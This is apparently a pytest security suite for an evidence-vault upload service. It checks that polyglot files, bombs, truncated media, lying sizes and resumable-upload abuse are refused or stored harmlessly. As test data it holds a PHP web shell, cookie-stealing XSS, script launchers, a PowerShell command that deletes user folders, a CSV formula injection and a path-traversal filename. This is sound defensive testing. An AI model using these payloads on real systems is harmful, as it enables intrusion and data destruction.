"""Hostile uploads on every intake path: polyglots, metadata and pixel bombs, broken media,
sizes that lie, and a resumable upload sent in ten thousand pieces.

The outcome for each kind of file follows the type allow-list (app/vault/upload/sniff.py), which
judges the first 64 KiB by content, never by name:

- A file whose bytes begin as an allowed type IS that type, whatever else it carries: a JPEG
  with a ZIP, an HTML page or PHP inside or after it is a photo. Evidence is kept byte for
  byte (the extra bytes may themselves be what an investigator needs to see), so it is
  ACCEPTED, and made harmless where it is served: always with its detected type and
  `nosniff` under a CSP of `default-src 'none'`, downloaded as an attachment, and shared only
  as a re-encoded stripped copy that carries none of the extra bytes.
- A file whose bytes begin as a type not on the list is REFUSED (415), whatever it also is:
  a GIFAR (GIF + Java archive) is a GIF, and GIF is not accepted; HTML with a JPEG after it
  is HTML.
- A PDF is on the list, JavaScript and all: ACCEPTED as a document. Custos never renders it;
  a person's PDF viewer does, and the download is an attachment under a .pdf name.
- An image whose header declares more pixels than the decoder may allocate is REFUSED (422)
  when the header is within the first 64 KiB; when a huge metadata block pushes it further,
  the file is accepted and the media step refuses to decode it (no thumbnail, no 500).
- Media the tools cannot read (a truncated MP4) is ACCEPTED: the original is never lost, the
  metadata step records that it failed, and every page still answers.

"Nothing stored" means no evidence row, no custody entry, no upload session, and no blob,
committed or partial, when the blob store is listed (intake_channels.stored_state).
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import struct
import zipfile

import pytest
from PIL import Image
from werkzeug.test import EnvironBuilder

from app.security import org_keys
from app.vault.tus.sessions import hash_cache
from tests.api.helpers import error_of
from tests.helpers.media import jpeg_with_exif, make_mp4, png_bomb
from tests.security.intake_channels import (  # noqa: F401 (fixtures)
    CHANNELS,
    NOTHING,
    OFFSET_TYPE,
    Sent,
    custody_actions,
    intake_fixture,
    only_evidence_id,
    page_text,
    s3_intake_fixture,
    saved_name,
    stored_state,
    vault_dir_fixture,
)
from tests.security.live_server import cookie_header, live_fixture  # noqa: F401 (fixture)
from tests.vault.vault_support import (
    decrypt_with_age_cli,
    multipart_body,
    pdf_from_objects,
    quoted,
    raw_blob,
    text_bytes,
)

# --- Files ---------------------------------------------------------------------------------------


def small_jpeg(size=(96, 64)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(out, "JPEG", quality=85)
    return out.getvalue()


def java_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
        archive.writestr("index.html", "<script>alert(document.cookie)</script>")
    return out.getvalue()


def segment(marker: int, payload: bytes) -> bytes:
    """One JPEG marker segment: FF xx, a 16-bit length that counts itself, the payload."""
    assert len(payload) <= 65533
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def with_segments(jpeg: bytes, *segments: bytes) -> bytes:
    """The JPEG with segments inserted right after its start-of-image marker."""
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (16, 16)).save(out, "GIF")
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 5 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            b"<< /S /JavaScript /JS (app.alert('opened'); "
            b"this.submitForm('http://x.invalid/');) >>",
            b"<< /Names [(run) 4 0 R] >>",
        ],
        version=b"1.7",
    )


def jpeg_declaring(width: int, height: int, before_header: bytes = b"") -> bytes:
    """A small JPEG whose frame header (SOF0) claims width x height; `before_header` goes
    between the start-of-image marker and everything else (APP segments)."""
    jpeg = bytearray(small_jpeg((16, 16)))
    sof = jpeg.index(b"\xff\xc0")
    jpeg[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg[:2]) + before_header + bytes(jpeg[2:])


def big_exif_segment() -> bytes:
    """An APP1 Exif segment at the format's limit: 65,533 bytes of payload."""
    exif = Image.Exif()
    exif[0x010E] = "x" * 60_000  # ImageDescription
    payload = b"Exif\x00\x00" + exif.tobytes()
    return segment(0xE1, payload.ljust(65533, b"\x00")[:65533])


# --- Helpers -------------------------------------------------------------------------------------


def assert_stored_intact(intake, sent, data: bytes, media_type: str):
    """Accepted: the answer names an item whose decrypted blob is exactly what was sent."""
    assert sent.evidence_id, (sent.status, sent.code, sent.message)
    item = intake.item(sent.evidence_id)
    assert (item.media_type, item.size) == (media_type, len(data))
    assert item.sha256 == hashlib.sha256(data).hexdigest()
    response = intake.download(item.id)
    assert response.status_code == 200
    assert response.data == data  # the original, never modified
    return item


def assert_refused(sent, status: int, code: str, words: str) -> None:
    assert sent.status == status, (sent.status, sent.code, sent.message)
    assert sent.code in (None, code)
    assert words in sent.message, sent.message
    assert stored_state() == NOTHING


def assert_served_only_as(intake, item, media_type: str) -> None:
    """Served with its detected type, never sniffed, never run as a page."""
    for what in ("/stream", "/download"):
        response = intake.download(item.id, what)
        assert response.status_code == 200
        assert response.mimetype == media_type
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in response.headers["Content-Security-Policy"]
        assert response.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    kind, _, _ = saved_name(intake.download(item.id).headers["Content-Disposition"])
    assert kind == "attachment"


# --- Polyglots -----------------------------------------------------------------------------------

JPEG = small_jpeg()
POLYGLOTS = {
    "jpeg+zip": JPEG + java_archive(),
    "jpeg+html-after": JPEG + HTML,
    "jpeg-with-html-comment": with_segments(JPEG, segment(0xFE, HTML)),
    "jpeg-with-php-in-exif": with_segments(JPEG, segment(0xE1, b"Exif\x00\x00" + PHP)),
}


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("kind", list(POLYGLOTS))
def test_a_jpeg_polyglot_is_kept_as_a_photo_and_served_only_as_one(intake, channel, kind):
    data = POLYGLOTS[kind]
    item = assert_stored_intact(
        intake, intake.send(channel, "market.jpg", data), data, "image/jpeg"
    )
    assert item.kind == "photo"
    assert_served_only_as(intake, item, "image/jpeg")
    stripped = [d for d in item.derivatives if d.kind == "stripped"]
    assert stripped, "a photo gets a stripped copy for sharing"
    response = intake.download(item.id, f"/derivatives/{stripped[0].id}")
    shared = response.data
    assert shared.startswith(b"\xff\xd8")
    for payload in (b"PK\x03\x04", b"<script", b"<?php"):
        assert payload not in shared, f"the shared copy carries the polyglot's {payload!r}"


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize(
    "data,words",
    [
        (gif() + java_archive(), "image/gif"),  # GIFAR: a GIF first, and GIF is not accepted
        (HTML + JPEG, "judged from its contents"),  # HTML first: not a photo
        (java_archive() + JPEG, "ZIP archive"),
    ],
    ids=["gifar", "html-then-jpeg", "zip-then-jpeg"],
)
def test_a_polyglot_that_begins_as_a_refused_type_is_refused(intake, channel, data, words):
    assert_refused(intake.send(channel, "photo.jpg", data), 415, "type_not_allowed", words)


@pytest.mark.parametrize("channel", CHANNELS)
def test_a_pdf_with_javascript_is_kept_as_a_document_and_downloaded_as_a_pdf(intake, channel):
    data = pdf_with_javascript()
    item = assert_stored_intact(
        intake, intake.send(channel, "report", data), data, "application/pdf"
    )
    assert item.kind == "document"
    assert_served_only_as(intake, item, "application/pdf")
    _, _, saved = saved_name(intake.download(item.id).headers["Content-Disposition"])
    assert saved == "report.pdf"


@pytest.mark.parametrize(
    "name,script",
    [
        ("witnesses.vbs", b'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc.exe"\n'),
        ("cleanup.ps1", b"Remove-Item -Recurse C:\\Users\\*\n"),
        ("open.js", b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");\n'),
        ("notes.html", b"Witness notes from the market.\n<img src=x onerror=alert(1)>\n"),
        ("casualties.csv", b"name,age,place\n=cmd|' /C calc'!A0,34,market\nAmal,29,clinic\n"),
    ],
)
def test_a_script_that_reads_as_plain_text_is_never_saved_as_a_script(intake, name, script):
    """libmagic calls these plain text, so they are kept; no desktop may run them (nor a
    spreadsheet evaluate a CSV's =formulas): each is saved under a .txt name."""
    item = assert_stored_intact(intake, intake.send_web(name, script), script, "text/plain")
    assert item.original_filename == name
    for what in ("/download", "/stream"):
        _, fallback, saved = saved_name(
            intake.download(item.id, what).headers["Content-Disposition"]
        )
        assert saved == f"{name}.txt"
        assert fallback == f"{name}.txt"


# --- Metadata and pixel bombs ---------------------------------------------------------------------


@pytest.mark.parametrize("channel", CHANNELS)
def test_a_jpeg_with_an_exif_block_at_the_segment_limit_is_kept(intake, channel):
    data = with_segments(jpeg_with_exif(), big_exif_segment())
    assert len(data) > 64 * 1024
    item = assert_stored_intact(
        intake, intake.send(channel, "big-exif.jpg", data), data, "image/jpeg"
    )
    metadata = json.loads(item.extracted_metadata)
    assert metadata["status"] in ("ok", "failed")
    assert intake.web.get(f"/investigations/{intake.ref}/evidence/{item.id}").status_code == 200
    assert "metadata_extracted" in custody_actions(item.id)


@pytest.mark.parametrize("channel", CHANNELS)
def test_many_app_segments_hiding_a_pixel_bomb_past_the_sniffed_bytes(intake, channel):
    """200 APPn segments (13 MB) push the frame header beyond the first 64 KiB: intake cannot
    see the dimensions, so it accepts the JPEG; the media step then refuses to decode it."""
    padding = b"".join(segment(0xE2 + i % 13, bytes(65_000)) for i in range(200))
    data = jpeg_declaring(60_000, 60_000, before_header=padding)
    item = assert_stored_intact(intake, intake.send(channel, "flood.jpg", data), data, "image/jpeg")
    assert json.loads(item.extracted_metadata)["status"] == "refused"
    assert item.derivatives == []  # never decoded
    assert intake.web.get(f"/investigations/{intake.ref}/evidence/{item.id}").status_code == 200


@pytest.mark.parametrize("channel", CHANNELS)
def test_an_exif_segment_longer_than_the_file_is_handled(intake, channel):
    jpeg = small_jpeg()
    data = jpeg[:2] + b"\xff\xe1\xff\xff" + b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08" + b"\x00" * 40
    item = assert_stored_intact(intake, intake.send(channel, "cut.jpg", data), data, "image/jpeg")
    assert json.loads(item.extracted_metadata)["status"] in ("failed", "unsupported", "ok")
    assert intake.web.get(f"/investigations/{intake.ref}/evidence/{item.id}").status_code == 200


BOMBS = {
    "png-900-megapixels": png_bomb,
    "jpeg-header-65500-squared": lambda: jpeg_declaring(65_500, 65_500),
}


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("bomb", list(BOMBS))
def test_a_decompression_bomb_is_refused_and_nothing_is_stored(intake, channel, bomb):
    sent = intake.send(channel, "bomb.png", BOMBS[bomb]())
    assert_refused(sent, 422, "image_too_large", "decompression bomb")


# --- Broken media ---------------------------------------------------------------------------------


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("faststart", [False, True], ids=["moov-at-end", "moov-first"])
def test_a_truncated_mp4_is_kept_and_every_page_still_answers(intake, tmp_path, channel, faststart):
    whole = make_mp4(tmp_path, seconds=2.0, faststart=faststart)
    data = whole[: len(whole) // 2]
    item = assert_stored_intact(intake, intake.send(channel, "clip.mp4", data), data, "video/mp4")
    assert item.kind == "video"
    metadata = json.loads(item.extracted_metadata)
    if not faststart:
        assert metadata["status"] == "failed"  # no moov box: nothing can be read
    assert metadata["status"] in ("failed", "ok")
    pages = ["", "/stream", "/download"]
    for page in pages:
        assert intake.download(item.id, page).status_code == 200, page
    listing = intake.web.get(f"/investigations/{intake.ref}/evidence")
    assert listing.status_code == 200


# --- Sizes that lie -----------------------------------------------------------------------------


def lying_request(client, url: str, body: bytes, declared: int, headers: dict, method="POST"):
    """A request whose Content-Length says `declared` while `body` is what actually arrives."""
    builder = EnvironBuilder(
        path=url, method=method, input_stream=io.BytesIO(body), headers=headers
    )
    environ = builder.get_environ()
    environ["CONTENT_LENGTH"] = str(declared)
    return client.open(environ)


def form(intake, files) -> tuple[bytes, str]:
    from tests.helpers.web import csrf_token

    token = csrf_token(intake.web, intake.upload_url)
    return multipart_body(token, [(quoted(name), data) for name, data in files])


def post_raw(live, http, path: str, content_type: str, body: bytes, declared: int):
    """A form POST whose Content-Length says `declared`; the client then stops sending."""
    return live.raw(
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {cookie_header(http)}\r\n"
        f"Content-Type: {content_type}\r\nContent-Length: {declared}\r\n"
        "Connection: close\r\n\r\n",
        body,
        half_close=True,
    )


def test_a_form_that_stops_inside_its_file_stores_nothing(intake, live):
    """Content-Length promises more than arrives, and the connection ends inside the file."""
    http = live.session(intake.user)
    token = live.csrf(http, intake.upload_url)
    body, content_type = multipart_body(token, [(quoted("statement.txt"), text_bytes(50_000))])
    response = post_raw(live, http, intake.upload_url, content_type, body[:-5000], len(body))
    assert response.status == 400, response.head
    text = response.body.decode()
    assert "“statement.txt”: The file did not arrive in full" in text
    assert stored_state() == NOTHING


def test_a_whole_form_under_a_longer_content_length_is_stored_intact(intake, live):
    """The form's closing boundary arrived, so its file is whole: it is kept, byte for byte.
    (Content-Length frames the request; the multipart boundaries frame each file.)"""
    http = live.session(intake.user)
    token = live.csrf(http, intake.upload_url)
    data = text_bytes(50_000)
    body, content_type = multipart_body(token, [(quoted("statement.txt"), data)])
    response = post_raw(live, http, intake.upload_url, content_type, body, len(body) + 100_000)
    assert response.status == 303, response.head
    state = stored_state()
    assert state.evidence == 1 and state.incomplete == ()
    assert intake.download(only_evidence_id()).data == data


@pytest.mark.parametrize("shorter_by", [60, 5000], ids=["closing-boundary", "file-tail"])
def test_a_form_longer_than_its_content_length_stores_nothing(intake, live, shorter_by):
    """A real server reads exactly Content-Length bytes: the rest of the file never counts."""
    http = live.session(intake.user)
    token = live.csrf(http, intake.upload_url)
    body, content_type = multipart_body(token, [(quoted("statement.txt"), text_bytes(50_000))])
    response = live.raw(
        f"POST {intake.upload_url} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Cookie: {cookie_header(http)}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {len(body) - shorter_by}\r\nConnection: close\r\n\r\n",
        body,
    )
    assert response.status == 400, response.head
    assert "The file did not arrive in full" in response.body.decode()
    assert stored_state() == NOTHING


def test_a_form_whose_body_ends_in_its_second_file_says_which_file_was_stored(intake):
    first, second = text_bytes(3000), text_bytes(90_000)
    body, content_type = form(intake, [("first.txt", first), ("second.txt", second)])
    cut = body.index(b"second.txt") + 20_000
    response = lying_request(
        intake.web, intake.upload_url, body[:cut], len(body), {"Content-Type": content_type}
    )
    assert response.status_code == 400
    text = page_text(response)
    assert "Stored “first.txt”" in text
    assert "Refused “second.txt”: The file did not arrive in full" in text
    state = stored_state()
    assert state.evidence == 1 and len(state.blobs) == 1 and state.incomplete == ()


@pytest.mark.parametrize("sent", ["all", "half"])
def test_an_api_upload_short_of_its_content_length_stores_nothing(intake, live, sent):
    data = text_bytes(40_000)
    body = data if sent == "all" else data[:20_000]
    path = f"/api/v1/investigations/{intake.ref}/evidence"
    response = live.raw(
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {intake.api.token}"
        "\r\nContent-Type: text/plain\r\nX-Filename: statement.txt\r\n"
        f"Content-Length: {len(data) + 1000}\r\nConnection: close\r\n\r\n",
        body,
        half_close=True,
    )
    assert response.status == 400, response.head
    error = json.loads(response.body)["error"]
    assert error["code"] == "size_mismatch" and "nothing was stored" in error["message"]
    assert stored_state() == NOTHING


def test_an_api_upload_longer_than_its_content_length_stores_what_was_declared(intake, live):
    """HTTP frames a body by Content-Length: bytes after it are not part of the request.
    What is stored is said in the answer (size and SHA-256), so the client can tell."""
    data = text_bytes(40_000)
    path = f"/api/v1/investigations/{intake.ref}/evidence"
    response = live.raw(
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {intake.api.token}"
        "\r\nContent-Type: text/plain\r\nX-Filename: statement.txt\r\n"
        "Content-Length: 30000\r\nConnection: close\r\n\r\n",
        data,
    )
    assert response.status == 201, response.body[:500]
    answer = json.loads(response.body)
    assert answer["size"] == 30_000
    assert answer["sha256"] == hashlib.sha256(data[:30_000]).hexdigest()
    assert_stored_intact(intake, Sent(201, "", None, answer["id"]), data[:30_000], "text/plain")


@pytest.mark.parametrize(
    "length,status,code",
    [
        ("-5", 400, "bad_length"),
        ("1.5", 400, "bad_length"),
        ("0x10", 400, "bad_length"),
        ("", 400, "bad_length"),
        ("\u00b2", 400, "bad_length"),  # "²": a digit to str.isdigit, not to int()
        ("0", 400, "empty_file"),
        ("9" * 30, 413, "too_large"),
    ],
    ids=["negative", "fraction", "hex", "empty", "superscript-two", "zero", "huge"],
)
def test_a_bad_upload_length_is_refused_before_anything_is_stored(intake, length, status, code):
    response = intake.tus_create(length)
    assert response.status_code == status, response.get_data(as_text=True)
    assert error_of(response)["code"] == code
    assert stored_state() == NOTHING


@pytest.mark.parametrize(
    "offset,status,code",
    [
        ("-1", 400, "bad_offset"),
        ("\u00b9", 400, "bad_offset"),
        ("abc", 400, "bad_offset"),
        ("500", 409, "offset_mismatch"),  # ahead of what arrived: a gap
        ("0", 409, "offset_mismatch"),  # behind: would overwrite
    ],
    ids=["negative", "superscript-one", "text", "gap", "rewind"],
)
def test_a_patch_at_the_wrong_offset_changes_nothing(intake, offset, status, code):
    data = text_bytes(1000)
    url = intake.tus_create(len(data)).headers["Location"]
    assert intake.tus_patch(url, 0, data[:300]).status_code == 204
    response = intake.tus_patch(url, offset, data[300:])
    assert response.status_code == status
    assert error_of(response)["code"] == code
    assert (
        intake.web.head(url, headers={"Tus-Resumable": "1.0.0"}).headers["Upload-Offset"] == "300"
    )
    state = stored_state()
    assert (state.evidence, state.custody_entries, state.blobs) == (0, 0, ())


def chunked(body: bytes, piece: int = 256 * 1024) -> bytes:
    """An HTTP/1.1 chunked body (RFC 9112 §7.1)."""
    out = bytearray()
    for start in range(0, len(body), piece):
        part = body[start : start + piece]
        out += b"%x\r\n" % len(part) + part + b"\r\n"
    return bytes(out + b"0\r\n\r\n")


def test_a_chunked_patch_that_overruns_the_upload_length_is_refused_and_the_upload_can_finish(
    intake, live, tmp_path
):
    """Without Content-Length the overrun shows only while reading: refused mid-body, the
    upload keeps its last checkpoint, and finishing it properly gives the right bytes."""
    http = live.session(intake.user)
    token = live.csrf(http, "/investigations/")
    data = text_bytes(3 * 1024 * 1024 + 17)
    created = http.post(
        f"{live.base}/investigations/{intake.ref}/uploads",
        headers={
            "Tus-Resumable": "1.0.0",
            "X-CSRFToken": token,
            "Upload-Length": str(len(data)),
            "Upload-Metadata": "filename " + base64.b64encode(b"statement.txt").decode(),
        },
        timeout=30,
    )
    assert created.status_code == 201, created.text
    url = created.headers["Location"]
    tus = {"Tus-Resumable": "1.0.0", "X-CSRFToken": token, "Content-Type": OFFSET_TYPE}

    def patch(offset: int, body: bytes):
        return http.patch(
            f"{live.base}{url}",
            data=body,
            headers={**tus, "Upload-Offset": str(offset)},
            timeout=60,
        )

    assert patch(0, data[:100_000]).status_code == 204
    overrun = data[100_000:] + b"and then bytes nobody declared\n" * 2000
    response = live.raw(
        f"PATCH {url} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {cookie_header(http)}\r\n"
        f"Tus-Resumable: 1.0.0\r\nX-CSRFToken: {token}\r\nContent-Type: {OFFSET_TYPE}\r\n"
        "Upload-Offset: 100000\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
        chunked(overrun),
    )
    assert response.status == 400, response.head
    assert json.loads(response.body)["error"]["code"] == "exceeds_length"
    state = stored_state()
    assert (state.evidence, state.custody_entries, state.blobs) == (0, 0, ())
    offset = int(http.head(f"{live.base}{url}", headers=tus, timeout=10).headers["Upload-Offset"])
    assert 100_000 <= offset < len(data)
    done = patch(offset, data[offset:])
    assert done.status_code == 204, done.text
    item = intake.item(done.headers["Custos-Evidence-Id"])
    assert item.sha256 == hashlib.sha256(data).hexdigest()
    identities = org_keys.org_identities()
    assert decrypt_with_age_cli(raw_blob(item.blob_key), identities, tmp_path) == data


def test_an_upload_that_never_reaches_its_length_is_never_evidence(intake):
    data = text_bytes(2000)
    url = intake.tus_create(len(data) + 1000).headers["Location"]
    assert intake.tus_patch(url, 0, data).status_code == 204
    state = stored_state()
    assert (state.evidence, state.custody_entries, state.blobs) == (0, 0, ())
    assert len(state.incomplete) == 1  # the partial upload, waiting for the rest or expiry
    assert intake.web.delete(url, headers=intake.tus_headers()).status_code == 204
    assert stored_state() == NOTHING


# --- Ten thousand pieces -------------------------------------------------------------------------


# Every PATCH, however small, is a whole checkpoint: a lease claimed and released and the
# offset recorded (three commits and an fsync), 0.05-0.15 s each on this two-core machine.
# 10,000 of them took 9.5 minutes on SQLite (CUSTOS_TUS_PATCHES=10000, measured while other
# work ran), more than the suite can spend per backend, so the suite sends 1,000 pieces of
# 66 bytes, which cross the same two boundaries (at 64 KiB the type is decided and the first
# age chunk sealed); CUSTOS_TUS_PATCHES=10000 runs the full count.
TUS_PATCHES = int(os.environ.get("CUSTOS_TUS_PATCHES", "1000"))


def test_thousands_of_tiny_patches_make_one_verified_item(intake, tmp_path, app, monkeypatch):
    """Many tiny PATCHes (10,000 with CUSTOS_TUS_PATCHES=10000) whose bytes pass 64 KiB, where
    the type is decided and the first age chunk sealed. The design sets no minimum PATCH size
    (each is a checkpoint), so the upload must simply complete, correctly,
    even when half-way the running hash is lost (another worker) and recomputed from the blob."""
    # The per-person PATCH rate limit (CUSTOS_TUS_PATCH_RATE_LIMIT, 600 a minute) is what
    # bounds this in production; it is lifted here because this test is about correctness
    # across thousands of checkpoints, and tests/security/test_rate_limits.py tests the limit.
    monkeypatch.setitem(app.config, "CUSTOS_TUS_PATCH_RATE_LIMIT", f"{TUS_PATCHES + 1} per minute")
    piece = -(-66_000 // TUS_PATCHES)  # ceil: 66 bytes for 1,000 PATCHes, 7 for 10,000
    line = b"Testimony, line by line: the strike hit the clinic at 09:40.\n"
    data = (line * (TUS_PATCHES * piece // len(line) + 1))[: TUS_PATCHES * piece]
    assert len(data) > 64 * 1024
    url = intake.tus_create(len(data), "statement.txt").headers["Location"]
    last = None
    for number, start in enumerate(range(0, len(data), piece)):
        if number == TUS_PATCHES // 2:
            hash_cache().clear()
        last = intake.tus_patch(url, start, data[start : start + piece])
        assert last.status_code == 204, (number, last.get_data(as_text=True))
    assert last is not None
    item = intake.item(last.headers["Custos-Evidence-Id"])
    assert (item.size, item.media_type) == (len(data), "text/plain")
    assert item.sha256 == hashlib.sha256(data).hexdigest()
    identities = org_keys.org_identities()
    assert decrypt_with_age_cli(raw_blob(item.blob_key), identities, tmp_path) == data
    assert intake.download(item.id).data == data
    state = stored_state()
    assert state.incomplete == ()
    assert set(state.blobs) == {item.blob_key, *(d.blob_key for d in item.derivatives)}


# --- The same refusals with the blobs in S3 -------------------------------------------------------


@pytest.mark.parametrize("channel", CHANNELS)
def test_refusals_leave_no_object_and_no_multipart_upload_in_s3(
    s3_intake, app, monkeypatch, channel
):
    """On S3 a refused file leaves no object and no unfinished multipart upload, also when
    the refusal comes after parts were already sent (over the size limit mid-stream)."""
    monkeypatch.setitem(app.config, "CUSTOS_MAX_UPLOAD_BYTES", 12 * 1024 * 1024)
    too_big = text_bytes(13 * 1024 * 1024)
    if channel == "tus":
        created = s3_intake.tus_create(len(too_big))
        assert created.status_code == 413  # declared up front: refused before any byte
        assert error_of(created)["code"] == "too_large"
    else:
        sent = s3_intake.send(channel, "long-statement.txt", too_big)
        assert sent.status == 413 and sent.code in (None, "too_large"), sent
    assert stored_state() == NOTHING
    cases = [
        ("photo.jpg", gif() + java_archive(), 415),
        ("bomb.png", png_bomb(), 422),
        ("../../etc/passwd", JPEG, 400),
    ]
    for name, data, status in cases:
        sent = s3_intake.send(channel, name, data)
        assert sent.status == status, (name, sent.status, sent.message)
        assert stored_state() == NOTHING, name
